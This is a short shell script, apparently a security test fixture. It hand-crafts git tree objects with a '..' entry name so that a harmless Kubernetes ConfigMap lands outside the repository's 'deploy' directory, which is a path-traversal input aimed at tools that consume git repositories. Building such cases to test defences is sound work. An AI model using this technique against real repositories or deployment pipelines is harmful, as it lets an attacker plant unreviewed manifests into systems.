# hand-build git trees as an attacker would: `git hash-object --literally` takes any entry name
blob() { git hash-object -w --stdin; }
entry() { printf "%s %s\0" "$1" "$2"; printf "$(printf %s "$3" | sed "s/../\\\\x&/g")"; }
tree() { git hash-object -t tree --literally -w --stdin; }
commit() { git update-ref HEAD "$(git commit-tree "$1" -p HEAD -m crafted)"; }
deploy=$(git rev-parse HEAD:deploy)
payload=$(printf "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: planted\n" | blob)

up=$( { entry 100644 planted.yaml "$payload"; } | tree)
commit "$( { entry 40000 .. "$up"; entry 40000 deploy "$deploy"; } | tree)"
